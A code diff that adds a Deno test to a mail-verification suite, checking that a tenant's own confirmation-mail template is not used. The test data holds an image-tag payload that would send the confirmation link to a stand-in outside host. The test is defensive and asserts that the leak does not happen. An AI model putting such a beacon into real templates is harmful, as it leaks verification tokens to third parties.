@@ -221,6 +221,25 @@ Deno.test("an address is proved by a mailed link, which works once and asks befo
   assert.deepEqual([...stored], []);
 });
 
+Deno.test("a tenant's own template of the mail with the link is not used: it could send the token elsewhere", async () => {
+  const by = await manager();
+  const own = await by.post("/api/v1/notification-templates", {
+    slug: "sender-confirmation",
+    name: "Own",
+    subjectTemplate: "Own",
+    htmlBodyTemplate: '<img src="https://elsewhere.example/?{{ confirmUrl }}">',
+  });
+  assert.equal(own.status, 201);
+  await by.put("/api/v1/tenant-looks", { productName: "Northwind" });
+  await by.put("/api/v1/notification-settings", { defaultLocale: "pt" });
+  await add(by, { address: "victim@mailed.example", method: "Mail" });
+  const { raw } = (await mailFor("victim@mailed.example"))!;
+  assert.doesNotMatch(raw, /elsewhere\.example/);
+  assert.match(raw, /Confirme victim@mailed\.example como remetente/, "in the language of the tenant");
+  assert.match(raw, /Northwind/, "in the looks of the tenant");
+  assert.deepEqual((await by.get("/api/v1/notifications")).body.items, [], "no message of the tenant");
+});
+
 Deno.test("a mailed link ends after 24 hours and when a newer one is mailed", async () => {
   const by = await manager();
   const sender = await add(by, { address: "late@mailed.example", method: "Mail" });
